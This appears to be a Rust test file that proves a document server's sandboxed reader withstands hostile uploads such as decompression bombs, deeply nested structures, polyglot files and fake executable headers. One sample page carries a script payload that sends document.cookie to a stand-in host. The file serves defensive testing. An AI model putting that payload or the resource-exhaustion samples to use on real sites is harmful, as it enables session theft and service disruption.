//! The proof of hostile files: each ends at the limits of the reading child, whatever it is; and while one is read the server
//! answers everybody else, keeps the file, says what is wrong with it, and lets it be registered. All of them are made here.
//!
//! That the child can reach nothing once it is confined is shown in `crates/reader/tests/reading/confinement.rs`.

mod archives;
mod kinds;
mod measure;
mod messages;
mod office;
mod papers;
mod pictures;
mod server;

use std::{
    fmt::Write as _,
    path::Path,
    sync::atomic::{AtomicBool, AtomicU64, Ordering},
    thread,
    time::{Duration, Instant},
};

use kinds::{Kind, kinds};
use reader::{Limits, Reader, Recogniser};
use server::{CLERKS, Client, Server};

use crate::{alone, engines, full, run};

/// A program of the kind that office machines run, as far as its head.
fn program() -> Vec<u8> {
    let mut file = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0".to_vec();
    file.resize(4_096, 0);
    file[60] = 128;
    file[128..132].copy_from_slice(b"PE\0\0");
    file
}

/// One of another kind.
fn other_program() -> Vec<u8> {
    let mut file = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    file.resize(4_096, 0);
    file
}

fn page_with_script() -> Vec<u8> {
    b"<!DOCTYPE html><html><head><script>fetch('//elsewhere.example/'+document.cookie)</script></head><body onload=alert(1)>words".to_vec()
}

/// A PDF that begins behind an archive: each program takes it for something else.
fn two_in_one() -> Vec<u8> {
    [archives::zipped(&[("words.txt", b"words")]), papers::pdf_ring()].concat()
}

fn seconds(time: Duration) -> f64 {
    time.as_secs_f64()
}

const MEBIBYTE: f64 = 1_048_576.0;

/// Longer than the limits say a child never lives; so much is for starting it and for a machine that others share.
const GRACE: Duration = Duration::from_secs(5);

#[test]
#[ignore = "run by cargo xtask prove"]
fn hostile_files_end_within_the_limits_of_the_child() {
    let _alone = alone();
    let limits = Limits::default();
    let reader =
        Reader::new(env!("CARGO_BIN_EXE_chancery"), limits.clone()).recognising(Recogniser::installed());
    for missing in reader.protections().unwrap().iter().filter(|protection| !protection.available) {
        println!("  this kernel lacks {}: {}", missing.guard.name(), missing.why);
    }
    // Of a scan each page is drawn and recognised, each by a child of its own, until the time for that is over.
    let scan = limits.recognising + limits.deadline * 3 + GRACE;
    let (mut table, mut wrong) = (String::new(), Vec::new());
    writeln!(
        table,
        "\n| file | what is wrong with it | MiB | outcome | seconds | MiB of the child | KiB read |"
    )
    .unwrap();
    writeln!(table, "|---|---|---|---|---|---|---|").unwrap();
    for kind in kinds() {
        let Kind { name, what, make, ends, .. } = kind;
        let bytes = make();
        let seen = measure::read(&reader, name, &bytes);
        let code = seen.outcome.code();
        let most = if reader_draws(name) { scan } else { limits.deadline + GRACE };
        let (size, memory) = (bytes.len() as f64 / MEBIBYTE, seen.memory as f64 / MEBIBYTE);
        let (took, output) = (seconds(seen.took), seen.output / 1024);
        writeln!(table, "| {name} | {what} | {size:.1} | {code} | {took:.2} | {memory:.0} | {output} |")
            .unwrap();
        println!("  {name}, {what}: {code}, {took:.2} s");
        if !ends.iter().any(|end| code.starts_with(end)) {
            wrong.push(format!("{name}, {what}: ended as {code}"));
        }
        if seen.took > most {
            wrong.push(format!("{name}, {what}: took {took:.1} s of {:.0}", seconds(most)));
        }
        if seen.memory > limits.memory_bytes {
            wrong.push(format!("{name}, {what}: {memory:.0} MiB"));
        }
        if seen.output as u64 > limits.answer_bytes {
            wrong.push(format!("{name}, {what}: answered {output} KiB"));
        }
    }
    println!("{table}");
    assert!(measure::children("self").is_empty(), "a child is left");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Whether pages of such a file may be drawn and their words recognised.
fn reader_draws(name: &str) -> bool {
    [".pdf", ".png", ".tif", ".jpg"].iter().any(|ending| name.ends_with(ending))
}

/// The longest that ninety-nine of a hundred pages take while such files are read.
const NEARLY_ALL: Duration = Duration::from_millis(500);
/// The longest that anybody waits: a build for development on a machine that others share is slow now and then.
const LONGEST: Duration = Duration::from_secs(10);

/// Asks a page every 50 milliseconds until told to stop; how long each took, and the longest since somebody looked (ms).
fn watch(client: &Client, stop: &AtomicBool, worst: &AtomicU64) -> Vec<Duration> {
    let mut took = Vec::new();
    for path in ["/desk", "/register", "/tray", "/search?q=words"].into_iter().cycle() {
        if stop.load(Ordering::Relaxed) {
            return took;
        }
        #[expect(clippy::disallowed_methods, reason = "how long a page takes is measured")]
        let begun = Instant::now();
        let page = client.page(path);
        let waited = begun.elapsed();
        assert_eq!(page.status, 200, "{path}: {}", page.text);
        if waited > Duration::from_millis(500) {
            println!("  {path} took {:.1} s", seconds(waited));
        }
        took.push(waited);
        worst.fetch_max(u64::try_from(waited.as_millis()).unwrap_or(u64::MAX), Ordering::Relaxed);
        thread::sleep(Duration::from_millis(50).saturating_sub(waited));
    }
    took
}

/// What a clerk is told of a reading that ended so, as the pages say it.
fn chip(code: &str) -> &'static str {
    match code.split('.').next().unwrap_or_default() {
        "hostile" => "quarantined",
        "over-limit" => "beyond the limits",
        "damaged" => "damaged",
        "mislabelled" => "not what its name says",
        "encrypted" => "encrypted",
        _ => "",
    }
}

/// Words that tell a clerk that something is wrong with a file.
const TROUBLES: [&str; 6] =
    ["quarantined", "beyond the limits", "damaged", "not what its name says", "encrypted", "not read"];

/// What is told of a file that was read: the beginning of what is wrong with it, and the words.
const FLAGS: [(&str, &str); 2] =
    [("macros", "macros in it"), ("names that climb", "names that climb out of folders")];

/// One file on its way: brought, seen in the tray with what is wrong with it, kept back where it attacks, registered.
fn goes_its_way(client: &Client, key: usize, kind: &Kind, bytes: &[u8]) -> String {
    let Kind { name, what, ends, .. } = kind;
    let brought = client.brings(key * 2, name, bytes);
    assert_eq!(brought.status, 201, "{name}, {what}: {}", brought.text);
    let item = brought.json()["item"].as_str().unwrap().to_owned();
    let shown = client.get(&format!("/api/v1/tray/{item}"));
    assert_eq!(shown.status, 200, "{name}, {what}: {}", shown.text);
    let said = shown.json()["reading"].as_str().unwrap().to_owned();
    let form = client.page(&format!("/register/new?item={item}"));
    assert_eq!(form.status, 200, "{name}, {what}");
    let list = client.page("/tray");
    let row = list.text.find(&item).map(|at| &list.text[at..]).unwrap_or_default();
    let row = row.split("</tr>").next().unwrap_or_default();
    if ends.iter().all(|end| !chip(end).is_empty()) {
        let told = TROUBLES.iter().find(|words| form.text.contains(&format!(">{words}</span>")));
        let told = told.unwrap_or_else(|| panic!("{name}, {what}: {said}, and the form says nothing"));
        assert!(ends.iter().any(|end| chip(end) == *told), "{name}, {what}: the form says {told}");
        assert!(row.contains(told), "{name}, {what}: the list does not say {told}: {row}");
    }
    for (wrong, words) in FLAGS {
        if what.starts_with(wrong) {
            let chip = format!(">{words}</span>");
            assert!(form.text.contains(&chip) && row.contains(&chip), "{name}, {what}: nobody says {words}");
        }
    }
    let content = client.get(&format!("/api/v1/tray/{item}/content/0"));
    assert_eq!(content.status == 200, said != "quarantined", "{name}, {what}: {}", content.status);
    let registered = client.registers(key * 2 + 1, &item, &format!("{what} {key}"));
    assert_eq!(registered.status, 201, "{name}, {what}: {}", registered.text);
    said
}

/// The largest file that the small size brings over HTTP (bytes): sealing a hundred megabytes takes a while in a build for
/// development.
const QUICK: usize = 8 << 20;
/// How many are brought at once, in the end.
const AT_ONCE: usize = 8;

#[test]
#[ignore = "run by cargo xtask prove"]
fn the_server_answers_while_hostile_files_are_read_and_keeps_each() {
    run(async {
        for engine in engines::engines().await {
            // What is shown is the same on both; the small size asks one.
            if full() || engine.database.is_none() {
                let mut server = Server::start(&engine).await;
                tokio::task::block_in_place(|| answers_meanwhile(engine.name, &mut server));
                println!("  {}", server.verify().lines().last().unwrap_or_default());
            }
            engine.give_back().await;
        }
    });
}

fn answers_meanwhile(engine: &str, server: &mut Server) {
    let [clerk, watcher] = CLERKS.map(|login| server.client(login));
    let (stop, worst) = (AtomicBool::new(false), AtomicU64::new(0));
    let process = server.process();
    let kinds = kinds();
    let most = if full() { usize::MAX } else { QUICK };
    thread::scope(|scope| {
        let watching = scope.spawn(|| watch(&watcher, &stop, &worst));
        let work = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            for (key, kind) in (1..).zip(&kinds) {
                let bytes = (kind.make)();
                if bytes.len() > most {
                    println!("  {}, {}: not brought in this size", kind.name, kind.what);
                    continue;
                }
                #[expect(clippy::disallowed_methods, reason = "how long it takes is measured")]
                let begun = Instant::now();
                let said = goes_its_way(&clerk, key, kind, &bytes);
                let (took, worst) = (seconds(begun.elapsed()), worst.swap(0, Ordering::Relaxed));
                println!("  {}, {}: {said}, {took:.2} s, longest page {worst} ms", kind.name, kind.what);
            }
            at_once(&clerk, &kinds);
            println!("  {AT_ONCE} at once: longest page {} ms", worst.load(Ordering::Relaxed));
        }));
        stop.store(true, Ordering::Relaxed);
        let mut took = watching.join().unwrap();
        if let Err(panic) = work {
            std::panic::resume_unwind(panic);
        }
        took.sort();
        let part = |share: usize| seconds(took[(took.len() - 1) * share / 100]) * 1_000.0;
        println!(
            "  {engine}: {} files one after the other and {AT_ONCE} at once; {} pages asked meanwhile, all answered 200: p50 {:.0} ms, p99 {:.0} ms, worst {:.0} ms",
            kinds.len(),
            took.len(),
            part(50),
            part(99),
            part(100)
        );
        assert!(
            took[(took.len() - 1) * 99 / 100] < NEARLY_ALL,
            "one page of a hundred took {:.0} ms",
            part(99)
        );
        assert!(took.last().unwrap() < &LONGEST, "a page took {:.1} s", seconds(*took.last().unwrap()));
    });
    assert!(server.stands(), "the server ended");
    let peak = measure::high_water(&process).unwrap_or(0) as f64 / MEBIBYTE;
    println!("  {engine}: the server had {peak:.0} MiB at most");
    assert!(measure::children(&process).is_empty(), "a child is left");
    assert!(!Path::new("/etc/cron.d/chancery").exists() && !Path::new("/etc/cron.d/letter.pdf").exists());
}

/// The worst at once: those that cost the most, each made different by a few bytes at its end.
fn at_once(client: &Client, kinds: &[Kind]) {
    let worst = [
        "arrays 1,000,000 deep",
        "2 GB of spaces packed twice",
        "groups 1,000,000 deep",
        "a page tree of 2^40 pages",
    ];
    // Made before, so that nothing but the server has work to do.
    let chosen: Vec<_> = kinds.iter().filter(|kind| worst.contains(&kind.what)).collect();
    let made: Vec<Vec<u8>> = chosen.iter().map(|kind| (kind.make)()).collect();
    let files = chosen.iter().zip(&made).cycle().take(AT_ONCE).enumerate();
    thread::scope(|scope| {
        for (n, (kind, bytes)) in files {
            scope.spawn(move || {
                let bytes = [bytes.as_slice(), &vec![b'\n'; n + 1]].concat();
                let brought = client.brings(10_000 + n, kind.name, &bytes);
                assert_eq!(brought.status, 201, "{}", brought.text);
            });
        }
    });
}
